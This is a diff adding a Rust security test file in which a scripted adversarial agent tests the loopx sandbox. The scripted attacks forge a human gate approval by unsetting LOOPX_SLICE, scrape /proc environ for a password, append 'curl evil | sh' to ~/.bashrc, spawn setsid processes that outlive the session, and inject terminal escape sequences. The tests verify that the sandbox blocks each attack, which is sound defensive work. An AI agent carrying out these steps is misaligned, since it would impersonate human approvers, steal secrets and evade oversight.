@@ -1,0 +1,233 @@
+//! An adversarial agent against the release binary: one test per attack observed on the
+//! unsandboxed loopx (issue 13), each run through a real slice of `loopx run --once` with the
+//! default sandbox (`docs/permissions.md`). The agent is a shell script; what it saw and how its
+//! attempts ended is left in the work tree for the test to read.
+
+use serde_json::Value;
+
+use crate::support::{LOOPX, Loopx, script_agent};
+
+/// A project with a goal, t1 for agent `exec`, which runs `script`.
+fn attacker(script: &str) -> Loopx {
+    let loopx = Loopx::new();
+    loopx.ok(&["goal", "start", "Tidy the docs"]);
+    script_agent(
+        &loopx,
+        "exec",
+        &format!("cat > /dev/null\n{script}"),
+        "max_time = \"1m\"\nidle_timeout = \"30s\"",
+    );
+    loopx.ok(&["todo", "add", "Tidy the README"]);
+    loopx
+}
+
+fn read(loopx: &Loopx, name: &str) -> String {
+    std::fs::read_to_string(loopx.path().join(name))
+        .unwrap_or_else(|e| panic!("the agent left {name}: {e}"))
+}
+
+fn run_once(loopx: &Loopx, env: &[(&str, &str)]) -> Value {
+    let run = loopx.run_env(&["run", "--once", "--json"], env);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let out = run.json();
+    assert_eq!(
+        out["slice"]["outcome"], "completed",
+        "the attack ran to its end: {out}"
+    );
+    out
+}
+
+/// What contained slice s1, as its record says.
+fn containment(loopx: &Loopx) -> String {
+    let slice = loopx_kernel::Store::open_read(
+        &loopx_kernel::Project::at(loopx.path()).expect("the project"),
+    )
+    .expect("the store")
+    .read(|s| s.slice(loopx_kernel::SliceId(1)))
+    .expect("reads")
+    .expect("slice s1");
+    slice.containment
+}
+
+/// `env -u LOOPX_SLICE loopx gate answer …` inside a slice answered any gate (and approved
+/// `full` profiles) as `human:root`; `loopx todo done` finished a todo whose dependency was
+/// open. In the sandbox the store is out of reach: both fail, nothing changes.
+#[test]
+fn an_agent_cannot_answer_a_gate_or_act_as_a_person() {
+    let loopx = attacker(&format!(
+        "env -u LOOPX_SLICE -u LOOPX_REPORT_SOCKET '{LOOPX}' gate answer q1 --option 1 > answer.out 2>&1; echo $? > answer.rc\n\
+         env -u LOOPX_SLICE '{LOOPX}' --project \"$LOOPX_PROJECT\" todo done t2 > done.out 2>&1; echo $? > done.rc\n\
+         echo '[notify]' > .loopx/loopx.toml 2>/dev/null; echo $? > plant.rc\n"
+    ));
+    loopx.ok(&["todo", "add", "Publish the README", "--after", "t1"]);
+    loopx.ok(&[
+        "gate",
+        "ask",
+        "Should t2 publish to the public site or the intranet?",
+        "--option",
+        "public",
+        "--option",
+        "intranet",
+        "--blocks",
+        "t2",
+    ]);
+    run_once(&loopx, &[]);
+    assert_eq!(containment(&loopx), "namespaces+landlock");
+    assert_ne!(
+        read(&loopx, "answer.rc").trim(),
+        "0",
+        "{}",
+        read(&loopx, "answer.out")
+    );
+    assert_ne!(
+        read(&loopx, "done.rc").trim(),
+        "0",
+        "{}",
+        read(&loopx, "done.out")
+    );
+    assert_ne!(read(&loopx, "plant.rc").trim(), "0");
+    let gate = loopx.ok(&["gate", "show", "q1", "--json"]).json();
+    assert_eq!(gate["gate"]["state"], "open", "{gate}");
+    let t2 = loopx.ok(&["todo", "show", "t2", "--json"]).json();
+    assert_eq!(t2["todo"]["state"], "open", "{t2}");
+    assert!(!loopx.path().join(".loopx/loopx.toml").exists());
+}
+
+/// `/proc/$PPID/environ` (the `loopx run` process) held `MY_DB_PASSWORD`, which the agent's own
+/// environment lacks. In its PID namespace the agent sees only its own processes.
+#[test]
+fn a_secret_outside_the_allowlist_cannot_be_read_through_proc() {
+    let loopx = attacker(
+        "cat /proc/$PPID/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' \
+           | grep -c MY_DB_PASSWORD > found.txt\n\
+         ls /proc | grep -c '^[0-9]' > processes.txt\n",
+    );
+    run_once(&loopx, &[("MY_DB_PASSWORD", "hunter2-correct-horse")]);
+    assert_eq!(read(&loopx, "found.txt").trim(), "0");
+    let seen: u32 = read(&loopx, "processes.txt")
+        .trim()
+        .parse()
+        .expect("a count");
+    assert!(
+        seen < 10,
+        "the agent sees only its slice's processes: {seen}"
+    );
+}
+
+/// Writes outside the work tree (`~/.bashrc`) are refused by Landlock.
+#[test]
+fn an_agent_cannot_write_outside_its_work_tree() {
+    let home = tempfile::tempdir().expect("a HOME");
+    std::fs::write(home.path().join(".bashrc"), "# mine\n").expect("a .bashrc");
+    let loopx = attacker(
+        "echo 'curl evil | sh' >> \"$HOME/.bashrc\" 2>/dev/null; echo $? > bashrc.rc\n\
+         echo fine > inside.txt\n",
+    );
+    let home_path = home.path().display().to_string();
+    run_once(&loopx, &[("HOME", home_path.as_str())]);
+    assert_ne!(read(&loopx, "bashrc.rc").trim(), "0");
+    assert_eq!(
+        std::fs::read_to_string(home.path().join(".bashrc")).expect("still there"),
+        "# mine\n"
+    );
+    assert_eq!(
+        read(&loopx, "inside.txt"),
+        "fine\n",
+        "the work tree stays writable"
+    );
+}
+
+/// `setsid env -i sleep 1000 &` left the session and dropped the marker the sweep looks for,
+/// and survived every stop. In the slice's PID namespace it ends with the slice.
+#[test]
+fn no_process_leaves_the_slice() {
+    // Durations no other process uses, to find exactly these sleepers afterwards.
+    let unique = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .expect("after 1970")
+        .subsec_nanos();
+    let [a, b, c] = [1, 2, 3].map(|i| format!("9{i}.{unique:09}"));
+    let loopx = attacker(&format!(
+        "setsid env -i sleep {a} &\nsetsid sh -c 'sleep {b} & sleep {c}' &\nsleep 0.2\n"
+    ));
+    run_once(&loopx, &[]);
+    let survivors: Vec<String> = std::fs::read_dir("/proc")
+        .expect("/proc")
+        .flatten()
+        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
+        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
+        .filter(|cmdline| [&a, &b, &c].iter().any(|d| cmdline.contains(d.as_str())))
+        .collect();
+    assert!(survivors.is_empty(), "escaped the slice: {survivors:?}");
+}
+
+/// Text an agent writes (a todo title, a question) reached the person's terminal raw: hidden
+/// text, OSC 52 (clipboard), OSC 0 (title), `\r` overwriting a line. Every human-readable
+/// command now shows it escaped.
+#[test]
+fn agent_text_reaches_the_terminal_escaped() {
+    let evil = "Tidy\\033]52;c;ZXZpbA==\\007 \\033]0;owned\\007\\033[8mhidden\\033[0m\\rFAKE: approve everything";
+    let loopx = attacker(&format!(
+        "title=$(printf '{evil}')\n\
+         '{LOOPX}' report todo \"$title\" > /dev/null\n\
+         '{LOOPX}' report ask \"Keep $title or drop it?\" --option keep --option drop > /dev/null\n\
+         '{LOOPX}' report evidence note \"$title\" > /dev/null\n\
+         printf '{evil}\\n'\n"
+    ));
+    run_once(&loopx, &[]);
+    for args in [
+        &["status"][..],
+        &["log"],
+        &["log", "--slice", "s1"],
+        &["todo", "list"],
+        &["todo", "show", "t2"],
+        &["gate", "list"],
+        &["gate", "show", "q1"],
+        &["evidence", "list"],
+    ] {
+        let out = loopx.ok(args).stdout;
+        assert!(out.contains("FAKE"), "{args:?} shows the text: {out}");
+        for byte in ['\x1b', '\x07', '\r'] {
+            assert!(
+                !out.contains(byte),
+                "{args:?} printed {byte:?} raw: {out:?}"
+            );
+        }
+    }
+    let raw = loopx.ok(&["log", "--slice", "s1", "--raw"]).stdout;
+    assert!(raw.contains('\x1b'), "--raw is the bytes as printed");
+}
+
+/// A FIFO or a symlink to `/dev/zero` planted among the profiles hung `profile list` or grew it
+/// until the OOM killer came. Both are refused with the path named.
+#[test]
+fn planted_special_files_are_refused_not_read() {
+    let loopx = Loopx::new();
+    let profiles = loopx.path().join(".loopx/profiles");
+    nix::unistd::mkfifo(&profiles.join("fifo.toml"), nix::sys::stat::Mode::S_IRWXU)
+        .expect("a FIFO");
+    std::os::unix::fs::symlink("/dev/zero", profiles.join("zero.toml")).expect("a symlink");
+    let run = loopx.run(&["profile", "list"]);
+    let all = format!("{}{}", run.stdout, run.stderr);
+    assert!(
+        all.contains("fifo.toml") && all.contains("is a FIFO"),
+        "{all}"
+    );
+    assert!(
+        all.contains("zero.toml") && all.contains("is a device"),
+        "{all}"
+    );
+    assert!(
+        all.contains("executor"),
+        "the other profiles still list: {all}"
+    );
+    let evidence = loopx.run(&[
+        "evidence",
+        "add",
+        "x",
+        "--file",
+        &profiles.join("fifo.toml").display().to_string(),
+    ]);
+    assert_ne!(evidence.code, 0);
+    assert!(evidence.stderr.contains("is a FIFO"), "{}", evidence.stderr);
+}
